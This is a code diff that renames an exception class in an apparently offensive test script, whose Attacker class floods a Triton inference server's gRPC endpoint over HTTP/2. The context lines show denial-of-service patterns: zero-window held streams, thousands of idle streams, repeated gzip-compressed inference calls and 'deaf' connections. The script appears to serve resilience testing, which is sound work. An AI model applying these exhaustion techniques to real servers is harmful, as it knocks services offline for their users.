@@ -20,7 +20,7 @@ import numpy as np
 from tritonclient.grpc import service_pb2 as pb
 from tritonclient.grpc.service_pb2_grpc import GRPCInferenceServiceStub
 
-from attack.peers import Ended, Http2, call_fields, framed, gzipped, http, http_head, zeros
+from attack.peers import EndedError, Http2, call_fields, framed, gzipped, http, http_head, zeros
 from calls import request, simple_inputs
 
 SERVICE = "/inference.GRPCInferenceService/"
@@ -94,7 +94,7 @@ class Attacker:
         for _ in range(28):
             held = self.connection(window=0)
             stream = held.open(call_fields(SERVICE + "ModelStreamInfer"))
-            with contextlib.suppress(Ended):
+            with contextlib.suppress(EndedError):
                 held.write(stream, turn * 1024)
                 self.count("turns", 1024)
                 while not held.ended:
@@ -106,7 +106,7 @@ class Attacker:
 
         def repeat() -> None:
             while not self.over.is_set():
-                with contextlib.suppress(Ended, OSError):
+                with contextlib.suppress(EndedError, OSError):
                     held = self.connection()
                     while not self.over.is_set():
                         stream = held.open(call_fields(SERVICE + "ModelInfer", "gzip"), None)
@@ -130,7 +130,7 @@ class Attacker:
 
     def _idle_calls(self, connections: int, fields: list[tuple[str, str]]) -> None:
         for _ in range(connections):
-            with contextlib.suppress(Ended, OSError):
+            with contextlib.suppress(EndedError, OSError):
                 held = self.connection()
                 for _ in range(min(4096, held.most_streams)):
                     held.open(fields)
@@ -142,7 +142,7 @@ class Attacker:
         body = framed(gzipped([message.SerializeToString()]), compressed=True)
         fields = call_fields(SERVICE + "ModelInfer", "gzip")
         for _ in range(20):
-            with contextlib.suppress(Ended, OSError):
+            with contextlib.suppress(EndedError, OSError):
                 held = self.connection(deaf=True)
                 for _ in range(2500):
                     held.open(fields, body)
@@ -331,7 +331,7 @@ def main() -> None:
     attacker = Attacker(source, int(http_port), int(grpc_port), int(largest))
     try:
         ACTS[row](attacker)
-    except (Ended, OSError) as e:
+    except (EndedError, OSError) as e:
         attacker.seen["stopped: " + str(e)[:60]] = 1
     attacker.seen["wire bytes"] = sum(each.sent for each in attacker.connections)
     attacker.seen["connections ended"] = sum(each.ended for each in attacker.connections)
